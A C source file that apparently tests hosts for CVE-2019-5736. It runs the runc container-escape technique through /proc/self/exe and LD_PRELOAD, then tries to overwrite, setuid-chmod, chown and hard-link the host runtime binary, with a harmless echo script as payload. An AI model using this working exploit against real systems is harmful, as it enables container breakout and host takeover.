/* overwrite: get hold of the program that started us, and write to it (CVE-2019-5736)
 *
 * usage: overwrite FILE; with OVERWRITE_WITH=PROGRAM in the environment, in two steps
 *
 * A script with the interpreter /proc/self/exe makes the kernel run the runtime's own binary in the
 * container. There this file, built as a shared object and named in LD_PRELOAD, runs as its code: it
 * opens FILE (/proc/self/exe) with O_PATH and becomes PROGRAM, so that nobody runs the binary any
 * more. PROGRAM, which is this file built as a program, then tries the ways to change FILE. Prints
 * "WAY ok" or "WAY ERRNO". Where writing and truncating go through, FILE is a script of the attacker's:
 * a test lets a copy of the runtime run, which can be lost.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { HELD = 9 };

static const char script[] = "#!/bin/sh\necho overwritten\n";

static void tell(const char *way, long result)
{
	printf("%s %s\n", way, result >= 0 ? "ok" : strerrorname_np(errno));
}

/* While the runtime itself runs on the host the file is busy: that is no defence, it only takes time. */
static long write_patiently(const char *file)
{
	long fd = -1;

	for (int i = 0; i < 40 && (fd = open(file, O_WRONLY)) < 0 && errno == ETXTBSY; i++)
		usleep(50000);
	if (fd < 0)
		return fd;

	const long written = pwrite((int)fd, script, sizeof script - 1, 0);

	close((int)fd);
	return written;
}

static int step_over(const char *file, const char *program)
{
	char *const nothing[] = { NULL };
	const int fd = open(file, O_PATH);

	tell("hold", fd);
	fflush(stdout);
	if (fd < 0 || dup2(fd, HELD) < 0)
		return 1;
	execle(program, program, "/proc/self/fd/9", (char *)NULL, nothing);
	tell("exec", -1);
	return 1;
}

int main(int argc, char **argv)
{
	const char *file = argc > 1 ? argv[1] : "/proc/self/exe";
	const char *with = getenv("OVERWRITE_WITH");

	if (with)
		_exit(step_over(file, with));
	tell("write", write_patiently(file));
	tell("truncate", truncate(file, sizeof script - 1));
	tell("chmod", chmod(file, 04777));
	tell("chown", chown(file, 0, 0));
	tell("link", linkat(AT_FDCWD, file, AT_FDCWD, "/tmp/stolen", AT_SYMLINK_FOLLOW));
	return 0;
}
